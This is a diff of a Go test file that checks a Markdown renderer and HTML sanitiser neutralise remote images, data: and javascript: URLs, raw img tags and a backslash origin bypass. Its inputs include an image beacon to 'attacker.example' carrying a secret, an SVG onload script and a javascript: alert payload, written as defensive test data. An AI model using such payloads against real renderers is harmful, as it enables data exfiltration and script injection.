@@ -54,6 +54,86 @@ func TestMarkdownKeepsItsOwnKey(t *testing.T) {
 	}
 }
 
+// markdownCase is a source and what its rendering must and must not hold.
+type markdownCase struct {
+	name, src  string
+	want, deny []string
+}
+
+// Images from another origin become links whose text is the URL; data: and
+// other non-web images become their alt text; same-origin images stay.
+// Every link carries rel="noopener nofollow noreferrer".
+func TestMarkdownOriginPolicy(t *testing.T) {
+	md := NewMarkdown()
+	const rel = `rel="noopener nofollow noreferrer"`
+	for _, tc := range []markdownCase{
+		{"remote image", "![x](http://attacker.example/leak?d=secret)",
+			[]string{`<a href="http://attacker.example/leak?d=secret" ` + rel + ` target="_blank">http://attacker.example/leak?d=secret</a>`},
+			[]string{"<img"}},
+		{"https image, upper-case scheme", "![x](HTTPS://cdn.example/a.png)",
+			[]string{`<a href="https://cdn.example/a.png" ` + rel, `>HTTPS://cdn.example/a.png</a>`}, []string{"<img"}},
+		{"protocol-relative image", "![x](//cdn.example/a.png)",
+			[]string{`<a href="//cdn.example/a.png" ` + rel, `>//cdn.example/a.png</a>`}, []string{"<img"}},
+		{"reference-style image", "see ![x][r]\n\n[r]: https://r.example/i.png \"t\"",
+			[]string{`<a href="https://r.example/i.png" ` + rel, `>https://r.example/i.png</a>`}, []string{"<img"}},
+		{"image with a title", `![x](http://a.example/i.png "the title")`,
+			[]string{`>http://a.example/i.png</a>`}, []string{"<img", "the title"}},
+		{"entities in the URL", "![x](http://a.example/i.png?a=1&amp;b=<2>)",
+			[]string{`href="http://a.example/i.png?a=1&amp;b=%3C2%3E"`, `>http://a.example/i.png?a=1&amp;b=%3C2%3E</a>`}, []string{"<img", "<2>"}},
+		{"remote image inside a link", "[![x](http://r.example/i.png)](http://t.example/)",
+			[]string{`<a href="http://t.example/" ` + rel + ` target="_blank">http://r.example/i.png</a>`}, []string{"<img", `href="http://r.example`}},
+		{"data: image", "![a *b*](data:image/png;base64,iVBORw0KGgo=)",
+			[]string{"<p>a <em>b</em></p>"}, []string{"<img", "data:", "<a"}},
+		{"data: svg image (not an image: Markdown ends it at the <)", "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+			nil, []string{"<img", "<a", "onload", "<svg"}},
+		{"data: link", "[x](data:text/html;base64,PHNjcmlwdD4=)",
+			nil, []string{"data:", "<img"}},
+		{"javascript: image", "![x](javascript:alert(1))", []string{"<p>x</p>"}, []string{"<img", "javascript"}},
+		{"HTML img tag", `<img src="http://a.example/i.png"> and <img src=//b.example/i.png>`,
+			nil, []string{"<img", "a.example", "b.example"}},
+		{"same-origin image", "![x](/static/a.png)", []string{`<img src="/static/a.png" alt="x">`}, nil},
+		{"relative image", "![x](img/a.png)", []string{`<img src="img/a.png" alt="x">`}, nil},
+		{"backslash after the root", `![x](/\evil.example/a.png)`, []string{`<img src="/%5Cevil.example/a.png"`}, nil},
+		{"autolink", "<http://a.example/x>", []string{`<a href="http://a.example/x" ` + rel + ` target="_blank">http://a.example/x</a>`}, nil},
+		{"bare www link", "www.example.com", []string{`<a href="http://www.example.com" ` + rel}, nil},
+		{"relative link", "[chat](/chat/1)", []string{`<a href="/chat/1" ` + rel + `>chat</a>`}, nil},
+	} {
+		out := md.HTML(tc.src)
+		for _, w := range tc.want {
+			if !strings.Contains(out, w) {
+				t.Errorf("%s: %q\nrenders %q\nwithout %q", tc.name, tc.src, out, w)
+			}
+		}
+		for _, d := range tc.deny {
+			if strings.Contains(out, d) {
+				t.Errorf("%s: %q\nrenders %q\nwith %q", tc.name, tc.src, out, d)
+			}
+		}
+		if why := markdownRemote(out); why != "" {
+			t.Errorf("%s: %q renders %q: %s", tc.name, tc.src, out, why)
+		}
+	}
+}
+
+// The sanitiser holds the image rule on its own: HTML that reaches it with
+// a remote image (from whatever renderer) loses the image's URL ("/\\a…" is
+// escaped to the same-origin path "/%5Ca…").
+func TestMarkdownSanitiserDropsRemoteImages(t *testing.T) {
+	md := NewMarkdown()
+	for _, in := range []string{
+		`<img src="http://a.example/i.png">`, `<img src="//a.example/i.png">`, `<img src="/\a.example/i.png">`,
+		`<img src="data:image/png;base64,AAAA">`, `<img src=" //a.example/i.png">`, `<img src="HTTP://a.example/i.png">`,
+	} {
+		out := md.policy.Sanitize(in)
+		if markdownRemote(out) != "" || strings.Contains(out, "data:") || strings.Contains(out, "//") {
+			t.Errorf("sanitised %q is %q", in, out)
+		}
+	}
+	if out := md.policy.Sanitize(`<img src="/static/a.png" alt="x">`); out != `<img src="/static/a.png" alt="x">` {
+		t.Errorf("a same-origin image became %q", out)
+	}
+}
+
 func TestMarkdownHighlightsFencedCode(t *testing.T) {
 	md := NewMarkdown()
 	out := md.HTML("```go\nfunc main() { fmt.Println(\"hi\") } // say\n```\n")
